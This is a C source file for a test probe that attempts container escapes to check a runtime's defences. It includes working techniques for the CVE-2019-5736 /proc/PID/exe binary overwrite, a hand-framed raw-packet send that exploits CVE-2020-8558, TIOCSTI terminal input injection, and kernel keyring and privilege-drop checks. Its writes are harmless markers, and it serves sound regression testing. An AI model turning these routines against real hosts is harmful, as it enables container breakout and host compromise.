/* probe: escape attempts made from inside a container, for the tests of
 * final's defences (tests/final.bats). Static: it runs in any image.
 *
 *   probe keyctl             add a key to the kernel keyring: "allowed" or why not
 *   probe watch-exe SECONDS  CVE-2019-5736: hold every new process's /proc/PID/exe
 *                            that is not the image's, and try to write through it
 *                            once no one runs it; prints "opened N wrote M"
 *   probe tiocsti            push a character into the input of our 0, 1, 2 and /dev/tty:
 *                            "allowed", or why not for each
 *   probe raw-udp IFACE MAC SRC DST PORT TEXT
 *                            CVE-2020-8558: a UDP datagram for DST:PORT, from SRC,
 *                            framed by hand (AF_PACKET, CAP_NET_RAW) to MAC out of
 *                            IFACE: no route of ours decides where it may go
 *   probe udp-listen ADDR PORT SECONDS
 *                            the first datagram to ADDR:PORT, or "nothing" after SECONDS
 *   probe become UID CMD...  drop to UID (its credentials change, as after a setuid exec
 *                            or su: the kernel forgets PR_SET_PDEATHSIG), then exec CMD
 *   probe sigblock CMD...    exec CMD with every signal blocked (a caller's mask; on the host)
 */
#include <errno.h>
#include <signal.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int keyctl(void)
{
	/* add_key(2) into the process keyring (KEY_SPEC_PROCESS_KEYRING = -2). */
	long id = syscall(SYS_add_key, "user", "probe", "x", 1, -2);

	printf("%s\n", id >= 0 ? "allowed" : strerror(errno));
	return id >= 0 ? 0 : 1;
}

static int tiocsti(void)
{
	char c = '\n', reasons[512] = "";
	size_t len = 0;
	int allowed = 0;

	/* Its 0, 1 and 2, then its controlling terminal, whatever they are. */
	for (int i = 0; i < 4; i++) {
		int fd = i < 3 ? i : open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
		int rc = fd < 0 ? -1 : ioctl(fd, TIOCSTI, &c);
		allowed |= rc == 0;
		static const char *const names[] = { "0", "1", "2", "/dev/tty" };
		len += snprintf(reasons + len, sizeof reasons - len, "%s%s: %s", i ? "; " : "", names[i],
				rc == 0 ? "allowed" : strerror(errno));
		if (i == 3 && fd >= 0)
			close(fd);
	}
	printf("%s\n", allowed ? "allowed" : reasons);
	return allowed ? 0 : 1;
}

/* The exe of a process that is neither the image's binaries nor us. */
static int foreign_exe(int pid)
{
	char path[64], target[4096];
	ssize_t n;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	if ((fd = open(path, O_PATH | O_CLOEXEC)) < 0)
		return -1;
	n = readlink(path, target, sizeof target - 1);
	target[n > 0 ? n : 0] = '\0';
	if (!strncmp(target, "/bin/", 5) || !strncmp(target, "/t/", 3)) {
		close(fd);
		return -1;
	}
	return fd;
}

static volatile sig_atomic_t stopped;
static void stop(int sig) { (void)sig; stopped = 1; }

static int watch_exe(int seconds)
{
	int held[256], nheld = 0, next = getpid() + 1, wrote = 0;
	time_t end = time(NULL) + seconds;
	char path[64];

	/* As a container's PID 1, only a signal we handle reaches us: stop's TERM ends the watch. */
	signal(SIGTERM, stop);
	while (time(NULL) < end && !wrote && !stopped) {
		/* The next PIDs of our namespace: exec's processes take them in turn. */
		for (int pid = next; pid < next + 8; pid++) {
			int fd = foreign_exe(pid);
			if (fd >= 0 && nheld < 256) {
				held[nheld++] = fd;
				next = pid + 1;
			} else if (fd >= 0)
				close(fd);
			else if (kill(pid, 0) == 0 && pid >= next)
				next = pid + 1;
		}
		/* Once nobody runs the binary, it can be opened for writing. */
		for (int i = 0; i < nheld && !wrote; i++) {
			snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
			int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
			if (w >= 0) {
				wrote = write(w, "probe", 5) == 5;
				close(w);
			}
		}
	}
	printf("opened %d wrote %d\n", nheld, wrote);
	return 0;
}

/* The IPv4 header's checksum: ones' complement of the ones' complement sum. */
static uint16_t checksum(const void *data, size_t len)
{
	const uint8_t *p = data;
	uint32_t sum = 0;

	for (size_t i = 0; i + 1 < len; i += 2)
		sum += p[i] << 8 | p[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum & 0xffff);
}

static int raw_udp(char **a)
{
	const char *text = a[5];
	size_t tlen = strlen(text), len = 14 + 20 + 8 + tlen;
	uint8_t frame[1514] = { 0 }, *ip = frame + 14, *udp = ip + 20;
	unsigned mac[6];
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_halen = 6 };
	uint16_t port = atoi(a[4]);
	int fd;

	if (len > sizeof frame || sscanf(a[1], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != 6)
		return fprintf(stderr, "probe: bad MAC or text\n"), 2;
	for (int i = 0; i < 6; i++)
		frame[i] = to.sll_addr[i] = mac[i];
	frame[12] = 0x08;   /* EtherType IPv4; the source MAC is IFACE's (below) */
	ip[0] = 0x45;
	ip[2] = (20 + 8 + tlen) >> 8, ip[3] = (20 + 8 + tlen) & 0xff;
	ip[8] = 64, ip[9] = IPPROTO_UDP;
	inet_pton(AF_INET, a[2], ip + 12);
	inet_pton(AF_INET, a[3], ip + 16);
	uint16_t sum = checksum(ip, 20);
	memcpy(ip + 10, &sum, 2);
	udp[0] = 0x30, udp[1] = 0x39;   /* source port 12345 */
	udp[2] = port >> 8, udp[3] = port & 0xff;
	udp[4] = (8 + tlen) >> 8, udp[5] = (8 + tlen) & 0xff;   /* checksum 0: none */
	memcpy(udp + 8, text, tlen);
	if ((fd = socket(AF_PACKET, SOCK_RAW, htons(0x0800))) < 0)
		return printf("%s\n", strerror(errno)), 1;
	to.sll_ifindex = if_nametoindex(a[0]);
	struct ifreq ifr = { 0 };
	snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", a[0]);
	if (ioctl(fd, SIOCGIFHWADDR, &ifr) == 0)
		memcpy(frame + 6, ifr.ifr_hwaddr.sa_data, 6);
	if (sendto(fd, frame, len, 0, (struct sockaddr *)&to, sizeof to) != (ssize_t)len)
		return printf("%s\n", strerror(errno)), 1;
	printf("sent\n");
	return 0;
}

static int udp_listen(char **a)
{
	struct sockaddr_in addr = { .sin_family = AF_INET, .sin_port = htons(atoi(a[1])) };
	char buf[512];
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	struct pollfd p = { .fd = fd, .events = POLLIN };

	inet_pton(AF_INET, a[0], &addr.sin_addr);
	if (fd < 0 || bind(fd, (struct sockaddr *)&addr, sizeof addr) < 0)
		return printf("%s\n", strerror(errno)), 1;
	printf("listening\n");
	if (poll(&p, 1, atoi(a[2]) * 1000) != 1)
		return printf("nothing\n"), 0;
	ssize_t n = recv(fd, buf, sizeof buf - 1, 0);
	buf[n > 0 ? n : 0] = '\0';
	printf("got %s\n", buf);
	return 0;
}

static int become(char **a)
{
	uid_t uid = atoi(a[0]);

	if (setresgid(uid, uid, uid) < 0 || setresuid(uid, uid, uid) < 0)
		return perror("setresuid"), 1;
	execvp(a[1], a + 1);
	return perror(a[1]), 127;
}

static int block_all(char **a)
{
	sigset_t all;

	sigfillset(&all);
	sigprocmask(SIG_SETMASK, &all, NULL);
	execvp(a[0], a);
	return perror(a[0]), 127;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 2 && !strcmp(argv[1], "keyctl"))
		return keyctl();
	if (argc == 2 && !strcmp(argv[1], "tiocsti"))
		return tiocsti();
	if (argc == 3 && !strcmp(argv[1], "watch-exe"))
		return watch_exe(atoi(argv[2]));
	if (argc == 8 && !strcmp(argv[1], "raw-udp"))
		return raw_udp(argv + 2);
	if (argc == 5 && !strcmp(argv[1], "udp-listen"))
		return udp_listen(argv + 2);
	if (argc >= 4 && !strcmp(argv[1], "become"))
		return become(argv + 2);
	if (argc >= 3 && !strcmp(argv[1], "sigblock"))
		return block_all(argv + 2);
	fprintf(stderr, "usage: probe keyctl | tiocsti | watch-exe SECONDS | raw-udp IFACE MAC SRC DST PORT TEXT"
		" | udp-listen ADDR PORT SECONDS | become UID CMD... | sigblock CMD...\n");
	return 2;
}
